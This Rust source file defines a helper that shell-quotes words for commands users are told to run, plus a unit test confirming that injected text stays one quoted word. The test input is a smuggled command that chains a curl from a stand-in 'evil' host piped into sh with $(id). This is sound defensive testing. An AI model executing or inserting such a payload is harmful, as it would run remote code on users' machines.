use std::borrow::Cow;

/// One word of a shell command that people are told to run, quoted where it must be: names, paths and URLs come from
/// whoever writes the repository or the spec. A text with a NUL, which no shell takes, is the empty word.
#[must_use]
pub fn shell_word(text: &str) -> Cow<'_, str> {
    shlex::try_quote(text).unwrap_or(Cow::Borrowed("''"))
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn what_the_shell_would_read_is_quoted() {
        assert_eq!(shell_word("configmap/web-1.x"), "configmap/web-1.x");
        let evil = shell_word("x; curl evil|sh $(id) 'y'");
        assert_eq!(shlex::split(&evil), Some(vec!["x; curl evil|sh $(id) 'y'".to_owned()]), "{evil}");
        assert!(evil.starts_with(['\'', '"']) && shell_word("a\0b") == "''");
    }
}
